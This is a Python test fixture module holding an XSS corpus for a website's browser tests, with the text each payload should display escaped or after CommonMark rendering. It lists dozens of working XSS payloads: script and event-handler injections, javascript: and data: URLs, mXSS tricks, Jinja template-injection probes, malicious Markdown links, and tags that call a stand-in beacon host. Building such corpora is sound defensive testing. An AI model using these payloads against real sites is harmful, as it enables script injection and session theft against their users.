"""The XSS corpus: hostile one-line strings, and what a reader must see in their place.

Every payload that could run calls ``alert(1)`` (or ``confirm``/``prompt``/``print``), assigns
``document.title``, sets ``window.pwned`` or requests the beacon host; the browser test hooks all of
these. ``shown`` is the text a reader must see where the payload was placed in plain text (the
payload itself, literally). ``shown_md`` is what the same characters look like once CommonMark has
read them (entities decoded, link syntax taken as a link label); it is worked out by hand from the
CommonMark rules, not by running the renderer.

No payload contains ``[<digits>]`` (a footnote marker in plain text), a backslash before ASCII
punctuation (a Markdown escape) or a line break, so each one survives every place it is put.
"""

from __future__ import annotations

from dataclasses import dataclass

BEACON_HOST = "beacon.invalid"  # .invalid never resolves; the browser test routes it and records hits
B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # base64 of <script>alert(1)</script>


@dataclass(frozen=True, slots=True)
class Payload:
    name: str
    text: str
    shown_md: str | None = None  # None: CommonMark shows the text unchanged

    @property
    def shown(self) -> str:
        return self.text

    @property
    def markdown_shown(self) -> str:
        return self.text if self.shown_md is None else self.shown_md


P = Payload
PAYLOADS: tuple[Payload, ...] = (
    # script elements
    P("script", "<script>alert(1)</script>"),
    P("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    P("script-src", f"<script src=//{BEACON_HOST}/js-src.js></script>"),
    P("script-title", "<script>document.title='XSS-RAN'</script>"),
    P("script-flag", "<script>window.pwned=1</script>"),
    P("script-end", "</script><script>alert(1)</script>"),
    P("comment-open", "<!--<script>alert(1)</script>-->"),
    P("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    P("title-breakout", "</title><script>alert(1)</script>"),
    P("textarea-breakout", "</textarea><script>alert(1)</script>"),
    P("style-breakout", "</style><script>alert(1)</script>"),
    P("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    # event handlers
    P("img-onerror", "<img src=x onerror=alert(1)>"),
    P("img-onerror-quoted", '<img src="x" onerror="confirm(1)">'),
    P("svg-onload", "<svg onload=alert(1)>"),
    P("svg-script", "<svg><script>alert(1)</script></svg>"),
    P("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    P("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg-link</text></a></svg>'),
    P("math-href", '<math><mi xlink:href="javascript:alert(1)">math-link</mi></math>'),
    P("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    P("body-onload", "<body onload=alert(1)>"),
    P("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    P("details-toggle", "<details open ontoggle=alert(1)>"),
    P("video-source", "<video><source onerror=alert(1)></video>"),
    P("custom-tag", "<x onclick=alert(1) style=display:block>click me</x>"),
    P("marquee", "<marquee onstart=alert(1)>m</marquee>"),
    # broken and split tags
    P("split-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    P("double-open", "<<script>alert(1)//<</script>"),
    P("unclosed-img", "<img src=x onerror=alert(1)//"),
    # attribute breakouts
    P("dq-breakout", '"><script>alert(1)</script>'),
    P("sq-breakout", "'><img src=x onerror=alert(1)>"),
    P("backtick-breakout", "`><img src=x onerror=alert(1)>"),
    P("dq-handler", '" onmouseover="alert(1)" x="'),
    P("sq-handler", "' autofocus onfocus='alert(1)' x='"),
    P("backtick-handler", "` onmouseover=alert(1) x=`", " onmouseover=alert(1) x="),  # a code span
    # URLs
    P("a-javascript", '<a href="javascript:alert(1)">js-link</a>'),
    P("a-javascript-case", '<a href="JaVaScRiPt:alert(1)">js-case-link</a>'),
    P("a-javascript-tab", '<a href="jav&#x09;ascript:alert(1)">js-tab-link</a>',
      '<a href="jav\tascript:alert(1)">js-tab-link</a>'),
    P("a-javascript-entity", '<a href="&#106;avascript:alert(1)">js-entity-link</a>',
      '<a href="javascript:alert(1)">js-entity-link</a>'),
    P("a-data", f'<a href="data:text/html;base64,{B64_SCRIPT}">data-link</a>'),
    P("a-vbscript", '<a href="vbscript:msgbox(1)">vb-link</a>'),
    P("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    P("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    P("object-data", '<object data="javascript:alert(1)"></object>'),
    P("embed-src", '<embed src="javascript:alert(1)">'),
    P("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    P("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    P("base-href", f'<base href="https://{BEACON_HOST}/base/">'),
    P("link-css", f"<link rel=stylesheet href=https://{BEACON_HOST}/css-link.css>"),
    P("img-beacon", f"<img src=https://{BEACON_HOST}/img-pixel.png>"),
    P("bare-javascript", "javascript:alert(1)"),
    # CSS
    P("css-expression", '<div style="width: expression(alert(1))">css-expr</div>'),
    P("css-url", '<style>body{background:url("javascript:alert(1)")}</style>'),
    P("css-import", f"<style>@import 'https://{BEACON_HOST}/css-import.css';</style>"),
    # encodings
    P("entity-script", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    P("entity-handler", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", "<img src=x onerror=alert(1)>"),
    P("percent-script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    P("js-escapes", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    P("hex-escapes", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
    P("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    P("fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    # template injection: Jinja must print these, never evaluate them
    P("jinja-expr", "{{ 7*7 }}"),
    # CommonMark: "__init__" and "__globals__" after "." are strong emphasis
    P("jinja-config", "{{ config.items() }}{{ self.__init__.__globals__ }}",
      "{{ config.items() }}{{ self.init.globals }}"),
    P("jinja-stmt", "{% raw %}{% endraw %}{% for x in range(3) %}loop{% endfor %}"),
    # CommonMark: the first two "*" pair up as emphasis around "7} #{7", the third stays
    P("other-templates", "${7*7} #{7*7} <%= 7*7 %>", "${77} #{77} <%= 7*7 %>"),
    # JSON-LD and script-block breakouts
    P("jsonld-close", '</script><script>alert(1)</script><script type="application/ld+json">'),
    P("jsonld-comment", "<!--<script>"),
    P("jsonld-quote", '", "x": "</script><img src=x onerror=alert(1)>'),
)

# Markdown link syntax, for Markdown seeds and pages: (label a reader sees, source). None of these may
# become a working link; markdown-it refuses the schemes and the site's own check (safe_url) refuses
# anything that is not http(s) or mailto.
MARKDOWN_LINKS: tuple[tuple[str, str], ...] = (
    ("md-js-link", "[md-js-link](javascript:alert(1))"),
    ("md-js-upper-link", "[md-js-upper-link](JAVASCRIPT:alert(1))"),
    ("md-js-angle-link", "[md-js-angle-link](<javascript:alert(1)>)"),
    ("md-js-entity-link", "[md-js-entity-link](jav&#x61;script:alert(1))"),
    ("md-js-colon-entity-link", "[md-js-colon-entity-link](javascript&colon;alert(1))"),
    ("md-js-percent-link", "[md-js-percent-link](%6Aavascript:alert(1))"),
    ("md-js-tab-link", "[md-js-tab-link](<java\tscript:alert(1)>)"),
    ("md-data-link", f"[md-data-link](data:text/html;base64,{B64_SCRIPT})"),
    ("md-vbscript-link", "[md-vbscript-link](vbscript:msgbox(1))"),
    ("md-ref-link", "[md-ref-link][evil]"),
    ("md-image-js", "![md-image-js](javascript:alert(1))"),
    ("md-quote-link", "[md-quote-link](<https://example.org/\" onmouseover=\"alert(1)>)"),
    ("javascript:alert(1)", "<javascript:alert(1)>"),
)
MARKDOWN_REFERENCE = "[evil]: javascript:alert(1)"

# Text used as a whole value (titles, names): several payloads at once, so one value tests many.
COMBINED = (
    "T1 </script><script>alert(1)</script> <!-- \"><img src=x onerror=alert(1)> "
    "' onmouseover='alert(1)' `x` {{ 7*7 }} &amp; &lt;b&gt;"
)
